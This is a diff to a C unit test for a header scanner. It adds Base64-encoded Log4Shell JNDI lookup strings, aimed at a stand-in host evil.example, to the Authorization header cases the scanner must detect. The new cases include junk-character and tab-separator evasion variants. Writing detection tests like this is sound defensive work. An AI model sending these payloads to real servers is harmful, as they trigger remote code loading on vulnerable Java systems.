@@ -317,7 +317,9 @@ START_TEST(basic_credentials_are_decoded_and_named)
 	// "%24%7bjndi:ldap://evil.example:1389/a%7d:"
 	static const char *const fields[] = {"Basic JHtqbmRpOmxkYXA6Ly9ldmlsLmV4YW1wbGU6MTM4OS9hfTpwdw==",
 					     "basic   dXNlcjokeyR7Ojotan1uZGk6bGRhcDovL2V2aWwuZXhhbXBsZToxMzg5L2F9",
-					     "BASIC JTI0JTdiam5kaTpsZGFwOi8vZXZpbC5leGFtcGxlOjEzODkvYSU3ZDo="};
+					     "BASIC JTI0JTdiam5kaTpsZGFwOi8vZXZpbC5leGFtcGxlOjEzODkvYSU3ZDo=",
+					     "Basic JHtq.bmRp!!Omxk=YXA6 Ly9ldmlsLmV4YW1wbGU6MTM4OS9hfTpwdw==", // many decoders pass over others
+					     "Basic\tJHtqbmRpOmxkYXA6Ly9ldmlsLmV4YW1wbGU6MTM4OS9hfTpwdw=="};
 
 	for (size_t i = 0; i < COUNT_OF(fields); i++) {
 		ck_assert_uint_eq(scan_named(bytes_of_text(fields[i]), "header:authorization"), 1);
